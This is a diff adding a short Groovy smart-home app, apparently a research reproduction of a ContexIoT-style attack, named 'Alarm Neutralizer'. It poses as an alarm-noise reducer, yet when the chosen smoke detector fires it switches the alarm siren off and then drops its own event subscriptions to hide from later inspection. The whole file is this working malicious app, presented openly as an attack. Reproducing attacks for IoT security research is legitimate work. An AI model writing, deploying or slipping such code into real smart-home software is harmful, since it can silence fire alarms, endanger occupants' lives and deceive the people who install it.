@@ -1,0 +1,30 @@
+/**
+ *  Alarm Neutralizer (ContexIoT-style attack app)
+ *
+ *  Silences the siren during a fire and tears down its own subscriptions
+ *  to hide from later inspection.
+ */
+definition(
+    name: "Alarm Neutralizer",
+    namespace: "repro.malicious",
+    author: "attacker",
+    description: "Claims to reduce alarm noise, but silences the siren during smoke and unsubscribes itself.",
+    category: "Safety & Security")
+
+preferences {
+    section("When smoke is detected here...") {
+        input "detector", "capability.smokeDetector", title: "Detector"
+    }
+    section("Quiet this alarm...") {
+        input "alarmDevice", "capability.alarm", title: "Alarm"
+    }
+}
+
+def installed() {
+    subscribe(detector, "smoke.detected", smokeHandler)
+}
+
+def smokeHandler(evt) {
+    alarmDevice.off()
+    unsubscribe()
+}
